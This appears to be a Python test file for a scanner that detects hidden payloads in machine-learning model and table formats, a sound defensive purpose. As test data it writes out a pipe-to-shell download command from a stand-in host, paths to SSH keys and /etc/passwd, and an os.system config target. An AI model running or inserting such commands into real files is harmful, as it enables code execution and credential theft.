"""What model formats carry beside their numbers: the same tricks in each, found by the same rules; and what is ordinary."""

import io
import json
import pickle
import zlib
from base64 import a85encode, b32encode, b64encode, b85encode
from collections.abc import Callable

import pyarrow
import pyarrow.orc
import pyarrow.parquet
import pytest

from budmodel_scanner.content import MemoryContent, Place
from budmodel_scanner.router import examine_file
from budmodel_scanner.texts import text_protos
from budmodel_scanner.verdict import Verdict, verdict_of
from tests.corpus import tensor_headers as headers
from tests.corpus.protobufs import varint
from tests.unit.budmodel_scanner import format_samples as sample

HOSTILE = sample.PICKLE
HARMLESS = pickle.dumps([1, 2])
PROGRAM = b"\x7fELF\2\1\1" + bytes(60)
FLAGGED = {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
Carrier = Callable[[bytes], bytes]


def said(data: bytes, name: str) -> Verdict:
    return verdict_of(examine_file(MemoryContent(data), Place(name)))


def node(name: bytes, operator: bytes, *inputs: bytes, text: bytes | None = None) -> tuple[int, bytes]:
    value = () if text is None else ((5, sample.proto((1, b"v"), (2, sample.proto((8, sample.proto((1, 7), (8, text))))))),)
    return 1, sample.proto((1, name), (2, operator), *((3, one) for one in inputs), *value)


def graph(*nodes: tuple[int, bytes]) -> bytes:
    return sample.proto((1, 1), (2, sample.proto((1, sample.proto((4, b"serve"))), (2, sample.proto(*nodes)))))


def xgboost(text: bytes) -> bytes:
    return json.dumps({"learner": {"attributes": {"scikit_learn": text.decode()}}, "version": [2, 0, 0]}).encode()


# Each holds one text.
TEXTS: dict[str, Carrier] = {
    "a.gguf": lambda text: headers.gguf([headers.string("custom.note") + b"\x08\0\0\0" + headers.string(text)]),
    "b.gguf": lambda text: headers.gguf(
        [headers.string("custom.notes") + b"\x09\0\0\0\x08\0\0\0\x01" + bytes(7) + headers.string(text)]
    ),
    "a.onnx": lambda text: sample.onnx(model=sample.proto((14, sample.proto((1, b"note"), (2, text))))),
    "b.onnx": lambda text: sample.onnx(sample.proto((5, sample.proto((1, b"note"), (4, text), (20, 3))))),
    "c.onnx": lambda text: sample.onnx(initializer=sample.proto((1, 1), (2, 8), (6, text), (8, b"w"))),
    "saved_model.pb": lambda text: graph(node(b"c", b"Const", text=text)),
    "a.pbtxt": lambda text: b'node { name: "c" op: "Const" attr { value { s: "%s" } } }' % text.replace(b'"', b'\\"'),
    "a.tflite": lambda text: sample.tflite(data=text),
    "a.mlmodel": lambda text: sample.coreml(note=text),
    "a.ubj": lambda text: sample.ubjson(note=text),
    "a.safetensors": lambda text: headers.safetensors({"__metadata__": {"note": text.decode()}}, b""),
    "a.arrow": lambda text: arrow(b"words", {"note": text}),
    "a.parquet": lambda text: table_of(pyarrow.parquet.write_table, b"words", {"note": text}),
}
# What no author of a model writes, and what it resembles.
TRICKS: dict[str, tuple[bytes, bytes]] = {
    "base64": (b64encode(HOSTILE), b64encode(b"a sentence of words, and no more of it")),
    "base32": (b32encode(HOSTILE), b32encode(b"a sentence of words, and no more of it")),
    "base85": (b85encode(HOSTILE), b85encode(b"a sentence of words, and no more of it")),
    "packed": (b85encode(zlib.compress(HOSTILE * 2)), b85encode(zlib.compress(b"a sentence of words" * 3))),
    "digits": (HOSTILE.hex().encode(), b"a sentence of words".hex().encode()),
    "command": (b"curl -s http://x.invalid/a | sh", b"trained with curl and bash scripts"),
    "private": (b"~/.ssh/id_rsa", b"/home/me/model/vocab.txt"),
    "address": (b"file:///etc/passwd", b"https://huggingface.co/me/model"),
    "page": (b"data:text/html,<iframe src=x>", b"data:image/png;base64,iVBORw0KGgo="),
    "share": (rb"\\x.invalid\share\a", b"share\\a"),
}


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_in_each_text_of_a_model(name: str, trick: str) -> None:
    hostile, ordinary = TRICKS[trick]
    if name.endswith(".pbtxt"):
        hostile, ordinary = hostile.replace(b"\\", b"\\\\"), ordinary.replace(b"\\", b"\\\\")
    assert said(TEXTS[name](hostile), name) in FLAGGED
    if name != "b.onnx" or trick not in ("private", "address"):
        # What an operator is given must not lead out of the repository at all.
        assert said(TEXTS[name](ordinary), name) is Verdict.SAFE


def test_json_within_a_text_is_read_as_such() -> None:
    target = json.dumps({"a": json.dumps({"_target_": "os.system"})}).encode()
    ordinary = json.dumps({"a": json.dumps({"_target_": "torch.nn.Linear"})}).encode()
    for name in ("a.gguf", "a.onnx", "a.ubj", "a.safetensors"):
        assert said(TEXTS[name](target), name) in FLAGGED
        assert said(TEXTS[name](ordinary), name) is Verdict.SAFE
    assert said(xgboost(target), "a.json") in FLAGGED
    assert said(xgboost(ordinary), "a.json") is Verdict.SAFE


def test_how_a_model_was_made_is_told_in_paths_of_its_maker() -> None:
    for key, path, verdict in (
        ("quantize.imatrix.file", "../imatrix.dat", Verdict.SAFE),
        ("general.source.url", "file:///etc/passwd", Verdict.SUSPICIOUS),
        ("custom.file", "../x.dat", Verdict.SUSPICIOUS),
    ):
        assert said(headers.gguf([sample.gguf_entry(key, path)]), "a.gguf") is verdict


def arrow(cell: bytes, notes: dict[str, bytes] | None = None) -> bytes:
    table = pyarrow.table({"n": range(3), "cell": [b"first", cell, b"last"]}).replace_schema_metadata(notes)
    written = io.BytesIO()
    with pyarrow.ipc.new_file(written, table.schema) as file:
        file.write_table(table)
    return written.getvalue()


def table_of(
    write: Callable[..., None], cell: object, notes: dict[str, bytes] | None = None, name: str = "cell", **options: object
) -> bytes:
    written = pyarrow.BufferOutputStream()
    write(pyarrow.table({name: [cell, cell]}).replace_schema_metadata(notes), written, **options)
    return bytes(written.getvalue())


def avro(cell: bytes, codec: bytes = b"deflate", schema: bytes = b'"bytes"') -> bytes:
    def long(text: bytes) -> bytes:
        return varint(2 * len(text)) + text

    block = long(cell) if codec == b"null" else zlib.compress(long(cell))[2:-4]
    notes = b"".join(map(long, (b"avro.codec", codec, b"avro.schema", schema)))
    return b"Obj\1" + b"\x04" + notes + b"\0" + b"m" * 16 + b"\x02" + long(block) + b"m" * 16


TABLES: dict[str, Carrier] = {
    "a.arrow": arrow,
    "b.arrow": lambda cell: arrow(b64encode(cell)),
    "c.arrow": lambda cell: arrow(zlib.compress(cell)),
    "a.parquet": lambda cell: table_of(pyarrow.parquet.write_table, cell, compression="zstd"),
    "b.parquet": lambda cell: table_of(pyarrow.parquet.write_table, [{"a": cell}], compression="snappy"),
    "c.parquet": lambda cell: table_of(
        pyarrow.parquet.write_table, pyarrow.scalar(list(cell), pyarrow.list_(pyarrow.uint8()))
    ),
    "a.orc": lambda cell: table_of(pyarrow.orc.write_table, cell, compression="zlib"),
    "a.avro": avro,
    "b.avro": lambda cell: avro(cell, b"null"),
}


@pytest.mark.parametrize("name", TABLES)
def test_what_a_cell_holds(name: str) -> None:
    assert said(TABLES[name](HOSTILE), name) is Verdict.MALICIOUS
    assert said(TABLES[name](HARMLESS * 3), name) is Verdict.SAFE
    if not name.startswith(("b.arrow", "c.arrow")):
        assert said(TABLES[name](b"before " + PROGRAM), name) is Verdict.SUSPICIOUS
    # What people wrote in tables of code is theirs to read.
    assert said(TABLES[name](b"#!/bin/sh\nwget x.invalid | sh\nsin\ncos\ntan\nimport os\n"), name) is Verdict.SAFE


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        (avro(b"words", b"zstandard"), Verdict.UNSCANNED),
        (avro(b"words").replace(b"m" * 16, b"n" * 16, 1), Verdict.SUSPICIOUS),
        (avro(b"words", schema=b'{"type":"string","java-class":"x.Y"}'), Verdict.SUSPICIOUS),
        (avro(b"words", schema=b'{"type":"string","java-class":"java.lang.Integer"}'), Verdict.SAFE),
    ],
)
def test_avro(data: bytes, verdict: Verdict) -> None:
    assert said(data, "a.avro") is verdict


CONST, GIVEN = node(b"c", b"Const", text=b"x"), node(b"g", b"Placeholder")
JOINED = node(b"j", b"StringJoin", b"c", b"c:0")


@pytest.mark.parametrize(
    ("nodes", "verdict"),
    [
        ((CONST, node(b"s", b"SaveV2", b"c")), Verdict.SUSPICIOUS),
        (
            (CONST, node(b"j", b"StringJoin", b"c", b"c:0"), node(b"m", b"MergeV2Checkpoints", b"j", b"j")),
            Verdict.SUSPICIOUS,
        ),
        ((CONST, GIVEN, node(b"m", b"MergeV2Checkpoints", b"g", b"c")), Verdict.SUSPICIOUS),
        ((CONST, GIVEN, node(b"j", b"StringJoin", b"g", b"c"), node(b"s", b"SaveV2", b"j", b"c")), Verdict.SAFE),
        ((CONST, node(b"s", b"SaveV2", b"argument", b"c")), Verdict.SAFE),
    ],
)
def test_where_a_graph_writes_is_for_its_caller_to_say(nodes: tuple[tuple[int, bytes], ...], verdict: Verdict) -> None:
    assert said(graph(*nodes), "saved_model.pb") is verdict


def test_bytes_at_an_offset_of_a_constant() -> None:
    for name in ("saved_model.pb", "a.tflite"):
        assert said(TEXTS[name](b"words " * 4 + HOSTILE), name) in FLAGGED
    weights = sample.proto((1, 64 + len(HOSTILE)), (2, 2), (9, bytes(64) + HOSTILE))
    assert said(sample.onnx(initializer=weights), "a.onnx") is Verdict.MALICIOUS


def test_base85_with_signs_that_json_would_escape() -> None:
    assert said(TEXTS["a.gguf"](a85encode(HOSTILE + b"words")), "a.gguf") in FLAGGED


def test_the_text_form_of_messages() -> None:
    text = """a { b: "x\\101" 'y' # told
      c: [1, "z"] d < e: true > } f: -1.5"""
    told = [(".".join(field.way), field.value) for field in text_protos.fields(text)]
    assert told == [
        *(("a", None), ("a.b", b"xAy"), ("a.c", b"1"), ("a.c", b"z"), ("a.d", None), ("a.d.e", b"true"), ("f", b"-1.5"))
    ]
    for broken in ("a }", "a: ~", 'a: "x'):
        with pytest.raises(ValueError, match="character"):
            list(text_protos.fields(broken))
